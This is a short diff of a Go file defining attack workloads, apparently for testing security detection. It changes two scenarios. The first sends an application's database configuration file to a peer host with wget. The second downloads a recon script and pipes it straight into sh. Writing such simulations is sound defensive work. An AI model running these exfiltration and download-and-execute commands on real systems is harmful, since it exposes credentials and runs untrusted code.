@@ -158,7 +158,7 @@ func workloads(helper string) []workload {
 				{
 					scenario: "web-config-exfiltration", name: "application secrets sent to a new peer",
 					argv: func(h hosts) []string {
-						return []string{"sh", "-c", fmt.Sprintf("cat /srv/app/config/database.yml >/dev/null; wget -q -T 3 -O /dev/null --post-file /srv/app/config/database.yml http://%s:8081/collect", h.B)}
+						return []string{"sh", "-c", fmt.Sprintf("cat /srv/app/config/database.yml >/dev/null; wget -q -O /dev/null --post-file /srv/app/config/database.yml http://%s:8081/collect", h.B)}
 					},
 					listen:      []string{"busybox", "nc", "-l", "-p", "8081"},
 					listenStdin: "HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n",
@@ -256,9 +256,9 @@ func workloads(helper string) []workload {
 					},
 				},
 				{
-					scenario: "worker-discovery", name: "discovery script downloaded to /dev/shm",
+					scenario: "worker-discovery", name: "discovery script piped from a download into sh",
 					argv: func(h hosts) []string {
-						return []string{"sh", "-c", fmt.Sprintf("wget -q -T 3 -O /dev/shm/.x http://%s:8000/recon.sh && sh /dev/shm/.x > /dev/shm/.out 2>&1", h.B)}
+						return []string{"sh", "-c", fmt.Sprintf("wget -q -O- http://%s:8000/recon.sh | sh > /dev/shm/.out 2>&1", h.B)}
 					},
 				},
 			},
